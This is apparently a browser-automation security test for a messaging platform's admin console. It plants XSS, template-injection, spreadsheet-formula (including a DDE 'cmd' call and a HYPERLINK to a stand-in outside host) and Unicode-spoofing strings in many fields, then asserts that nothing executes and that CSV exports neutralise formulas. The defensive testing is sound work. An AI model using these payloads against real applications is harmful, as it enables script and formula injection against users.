// Scripts, formulas and broken text in every field: planted by the API and typed in by hand, then every page is looked at, wide and
// narrow. They are text wherever they are shown: nothing runs, nothing asks another host, nothing breaks out of the screen.
// PARTS=typed or PARTS=batch leaves the rest out.
// FULL=1 takes more of the messages and types more of the texts.
const FULL = process.env.FULL === '1'
const MARK = 'zqx'
const begun = Date.now()
const tell = (what) => console.log(`    hostile texts ${what} (${((Date.now() - begun) / 1_000).toFixed(0)} s)`)
const SCRIPT = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"><svg onload="window.__pwned=3">${MARK}`
const TEXTS = [
  SCRIPT,
  `"><img src=x onerror=window.__pwned=4>${MARK}`,
  `javascript:window.__pwned=5//${MARK}`,
  `{{constructor.constructor('window.__pwned=6')()}}${MARK}`,
  '${window.__pwned=7}`${alert(1)}`' + MARK,
  `=HYPERLINK("https://outside.invalid/?"&A1,"${MARK}")`,
  `+cmd|'/C calc'!A0${MARK}`,
  `\u202Etxt.exe\u202D ${MARK} \u2067אבג\u2069`,
  `${MARK}${'W'.repeat(10_000)}`,
  `👩‍👩‍👧‍👦🏳️‍🌈𝔘𝔫𝔦 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢ ${MARK}`,
  `a\u0000b\u0007\u001b[31m${MARK}`,
  '<!--<iframe src=https://outside.invalid></iframe>--><style>*{display:none}</style><base href=https://outside.invalid>' + MARK,
]
const PAGES = ['/', '/monitor', '/messages', '/tasks', '/dead-letters', '/templates', '/send', '/batch', '/inbox', '/providers', '/pools', '/webhooks', '/suppressions', '/keys', '/settings?tab=outcomes', '/settings']

/** Asks; a refusal is as good as taking it, only a server error is not. */
async function ask(base, key, method, path, body) {
  const reply = await fetch(base + path, { method, headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) })
  const text = await reply.text()
  if (reply.status >= 500 && reply.status !== 503) throw new Error(`${method} ${path}: ${reply.status} ${text.slice(0, 300)}`)
  return { ok: reply.ok, body: reply.ok && text ? JSON.parse(text) : undefined }
}

async function plant({ base, key }) {
  const made = { messages: [], templates: [], limits: [], keys: [], hooks: [], accounts: [] }
  let number = 0
  for (const text of TEXTS) {
    number += 1
    const short = [...text].slice(0, 60).join('')
    const send = async (request) => { const { body } = await ask(base, key, 'POST', '/api/messages/send', request); if (body) made.messages.push(body.message_id) }
    await send({ channel: 'email', recipient: 'reader@example.com', subject: short.replace(/[\r\n\0]/g, ' '), content: text, html: `<p>${text}</p>`, metadata: { note: text } })
    await send({ channel: 'app', recipient: short, subject: short, content: text })
    await send({ channel: 'feishu', recipient: short, content: text, subject: short })
    await send({ channel: 'wechat', recipient: short, content: text })
    await send({ channel: 'sms', recipient: '13800138000', content: text.slice(0, 500) })
    await send({ channel: 'email', recipient: 'fail-permanent@example.com', subject: short, content: text })
    const variables = [{ name: 'who', sample: text.slice(0, 200), description: text.slice(0, 500) }]
    for (const channel of ['sms', 'email', 'app', 'wechat', 'feishu', 'dingtalk', 'slack', 'webhook']) {
      const { body } = await ask(base, key, 'POST', '/api/messages/templates', { name: `hostile_${channel}_${number}`, title: short, channel, subject: channel === 'sms' ? undefined : `${short.replaceAll('{{', '{ {')} {{ who }}`, content: `${text.replaceAll('{{', '{ {')} {{ who }}`, variables, ...(channel === 'email' ? { html: `<p>{{ who }}</p>${text.replaceAll('{{', '{ {')}` } : {}) })
      if (body) made.templates.push(body)
    }
    await ask(base, key, 'POST', '/api/messages/send-batch', { name: text.slice(0, 128), channel: 'sms', content: text.slice(0, 300), recipients: ['13800138001', '13800138002'] })
    await ask(base, key, 'POST', '/api/suppressions', { channel: 'app', recipient: short, reason: text.slice(0, 200) })
    await ask(base, key, 'PUT', `/api/views/${encodeURIComponent(short.replaceAll('/', ''))}`, { page: 'messages', query: `q=${encodeURIComponent(text.slice(0, 200))}` })
    const keep = async (list, path, body) => { const { body: one } = await ask(base, key, 'POST', path, body); if (one) list.push(`${path}/${one.id}`) }
    await keep(made.keys, '/api/keys', { name: short, scopes: ['read'] })
    await keep(made.limits, '/api/limits', { resource: `channel:${short}`, limit_type: 'qps', max_value: 1_000_000 })
    await keep(made.hooks, '/api/webhooks', { url: `http://127.0.0.1:9/${encodeURIComponent(text.slice(0, 200))}` })
    await keep(made.hooks, '/api/webhooks', { url: text.slice(0, 200) })
    await keep(made.accounts, '/api/accounts', { channel: 'sms', provider: 'aliyun', name: short, tier: 90, weight: 0, settings: { access_key_id: text.slice(0, 60), access_key_secret: 'x', sign_name: short } })
  }
  return made
}

/** Types a text into every field that takes texts, and tries to send the form off. */
async function typeEverywhere(page, text, within = '#main') {
  const fields = page.locator(`${within} :is(input:not([type]), input[type=text], input[type=search], input[type=url], textarea):visible:not([readonly]):not([disabled])`)
  const count = await fields.count()
  for (let at = 0; at < count; at += 1) await fields.nth(at).fill(text, { timeout: 3_000 }).catch(() => undefined)
  await fields.last().press('Enter', { timeout: 3_000 }).catch(() => undefined)
  return count
}

export default async function ({ page, base, key, api, assert, until, settle, openPage, problems }) {
  const dialogs = []
  const watch = (each) => {
    each.on('dialog', (dialog) => {
      // The editor's question whether to leave what is not saved.
      if (dialog.type() === 'beforeunload') return void dialog.accept()
      dialogs.push(dialog.message())
      return void dialog.dismiss()
    })
    each.on('popup', (popup) => dialogs.push(`popup ${popup.url()}`))
  }
  watch(page)
  const made = await plant({ base, key })
  await until('the messages have arrived', async () => { const { by_status: now } = await api('GET', '/api/messages/counts'); return !now.pending && !now.processing && !now.retrying }, 40)
  tell('planted')
  const untouched = async (each, where) => {
    assert.equal(await each.evaluate(() => window.__pwned), undefined, `${where}: nothing was run`)
    assert.deepEqual(dialogs, [], `${where}: no dialog`)
    assert.equal(await each.locator('#app script, #app base, #app img[src="x"], #app [onerror], #app [onload]').count(), 0, `${where}: no element was made of a text`)
    assert.deepEqual(await each.$$eval('#app a[href]', (links) => links.map((link) => link.protocol).filter((protocol) => !/^https?:$/.test(protocol))), [], `${where}: links lead to pages only`)
  }
  const fits = async (each, where) => {
    const over = await each.evaluate(() => document.scrollingElement.scrollWidth - Math.min(innerWidth, screen.width, document.documentElement.clientWidth))
    if (over > 1) {
      const wide = await each.evaluate(() => [...document.querySelectorAll('#app *')].filter((element) => element.getBoundingClientRect().right > screen.width + 1).slice(0, 4).map((element) => `${element.tagName}.${element.className}`))
      assert.fail(`${where}: ${over} px wider than the screen: ${wide.join(', ')}`)
    }
  }

  const phone = await openPage({ size: 'phone', language: 'zh', theme: 'dark' })
  watch(phone.page)
  const byChannel = new Map(made.templates.map((template) => [`${template.channel}`, template]))
  const some = made.messages.filter((_, index) => index % (FULL ? 5 : 9) === 0)
  const places = [
    ...PAGES, ...some.map((id) => `/messages?open=${id}`), `/messages?q=${encodeURIComponent(TEXTS[0])}&recipient=${encodeURIComponent(TEXTS[1])}&error=${encodeURIComponent(TEXTS[3])}`,
    ...[...byChannel.values()].flatMap((template) => [`/templates/${template.id}`, `/templates/${template.id}?tab=variables`]), `/templates/${byChannel.get('email').id}?tab=versions`, `/templates/${byChannel.get('email').id}/visual`,
    `/templates?q=${encodeURIComponent(SCRIPT.slice(0, 150))}`, `/send?template=${byChannel.get('email').id}`, `/batch?template=${byChannel.get('sms').id}`, ...['sms', 'email', 'app', 'wechat', 'feishu'].map((channel) => `/inbox?channel=${channel}`),
    '/tasks?open=1', '/tasks?open=3', '/tasks?status=%3Cscript%3E', ...made.hooks.slice(0, 2).map((path) => `/webhooks?open=${path.split('/').at(-1)}`), ...made.accounts.slice(0, 2).map((path) => `/providers?open=${path.split('/').at(-1)}`),
  ]
  async function lookAround(each, narrow, noted) {
    for (const place of places) {
      noted.length = 0
      await each.goto(base + place)
      await settle(each)
      await untouched(each, place)
      if (narrow && !place.endsWith('/visual')) await fits(each, `${place} at 390 px`)
      const said = [...new Set(noted)].filter((problem) => !/Failed to load resource|sandboxed and the 'allow-scripts'|Blocked script execution/.test(problem))
      assert.deepEqual(said, [], `${place}: the console of the browser says nothing`)
    }
  }
  if (!process.env.PARTS) await Promise.all([lookAround(page, false, problems), lookAround(phone.page, true, phone.problems)])
  tell('looked at')
  // The charts' words: what the pointer shows beside a name from outside.
  await page.goto(`${base}/monitor`)
  await page.waitForSelector('.chart canvas')
  for (const box of await page.locator('.chart canvas').all()) { await box.hover({ force: true }).catch(() => undefined); await page.waitForTimeout(80) }
  await untouched(page, 'tooltips of the charts')

  // By hand, everywhere: filters, forms in drawers, the palette.
  let typed = 0
  for (const text of process.env.PARTS === 'batch' ? [] : FULL ? [SCRIPT, TEXTS[3], TEXTS[5], TEXTS[7]] : [SCRIPT, TEXTS[5]]) {
    for (const place of ['/messages', '/templates', '/inbox', '/settings', '/send', '/tasks', '/suppressions', '/templates/new?channel=sms', '/templates/new?channel=email&tab=variables']) {
      await page.goto(base + place)
      await settle(page)
      if (place === '/messages') await page.getByRole('button', { name: /filters/i }).first().click()
      if (place.includes('tab=variables')) await page.getByRole('button', { name: /^Add/ }).first().click().catch(() => undefined)
      typed += await typeEverywhere(page, text)
      await settle(page)
      await untouched(page, `typed on ${place}`)
    }
    for (const [place, button] of [['/keys', 'Make a key'], ['/webhooks', 'Add'], ['/suppressions', 'Add'], ['/pools', 'Add a limit'], ['/dead-letters', 'Send again']]) {
      await page.goto(base + place)
      await settle(page)
      await page.getByRole('button', { name: button }).first().click()
      const dialog = page.getByRole('dialog')
      await dialog.waitFor()
      typed += await typeEverywhere(page, text, '[role="dialog"]')
      await settle(page)
      await untouched(page, `typed in the drawer of ${place}`)
    }
    await page.goto(`${base}/providers?open=new`)
    await settle(page)
    await page.getByRole('dialog').getByLabel('Provider').selectOption('email/smtp')
    typed += await typeEverywhere(page, text, '[role="dialog"]')
    await settle(page)
    await untouched(page, 'typed into an account')
    await page.goto(base)
    await settle(page)
    await page.keyboard.press('Control+k')
    await page.getByRole('combobox').fill(text)
    await page.keyboard.press('Enter')
    await settle(page)
    await untouched(page, 'typed into the palette')
    tell('typed')
  }
  if (!process.env.PARTS) assert.ok(typed >= 60, `${typed} fields were typed into`)

  await batch({ page, base, api, assert, settle, untouched })
  for (const path of made.hooks) await api('PATCH', path, { status: 'disabled' }).catch(() => undefined)
  for (const path of [...made.keys, ...made.limits, ...made.accounts]) await api('DELETE', path).catch(() => undefined)
  for (const template of made.templates) await api('DELETE', `/api/messages/templates/${template.id}`).catch(() => undefined)
  await phone.context.close()
}

/** A file of recipients whose every cell and every head is hostile; what is downloaded is safe to open in a spreadsheet. */
async function batch({ page, base, api, assert, settle, untouched }) {
  const template = (await api('GET', '/api/messages/templates?limit=50')).items.find((each) => each.name === 'order_shipped')
  await page.goto(`${base}/batch?template=${template.id}`)
  await settle(page)
  const quote = (text) => `"${text.replaceAll('"', '""')}"`
  const heads = ['phone', 'order_no', 'customer_name', 'delivery_days', '<img src=x onerror=window.__pwned=9>', '=1+1']
  const rows = [heads, ...TEXTS.map((text) => [text, text.slice(0, 60), text.slice(0, 60), '3', text.slice(0, 100), '@SUM(1)']), ['-2+3', '@x', '\t=1', 'soon', '', ''], ['13800138000', TEXTS[0], TEXTS[5], '3', '', '']]
  await page.setInputFiles('input[type=file]', { name: '<img src=x onerror=window.__pwned=8>.csv', mimeType: 'text/csv', buffer: Buffer.from(rows.map((row) => row.map(quote).join(',')).join('\r\n')) })
  await page.getByRole('button', { name: /Check/ }).click()
  await page.getByText('What would happen').waitFor()
  await untouched(page, 'a file of recipients')
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /as CSV/ }).click()])
  let text = ''
  for await (const part of await download.createReadStream()) text += part
  // Each cell: quoted, and none begins with what a spreadsheet would work out.
  const cells = [...text.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"(?:,|\r\n|$)/g)].map((match) => match[1])
  assert.ok(cells.length >= 4 * TEXTS.length, `${cells.length} cells`)
  assert.deepEqual(cells.filter((cell) => /^[\s\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]*[=+\-@\t\r\0＝＋－＠]/.test(cell)).map((cell) => cell.slice(0, 30)), [], 'no cell is a formula')
  assert.equal(download.suggestedFilename(), 'problems.csv')
}
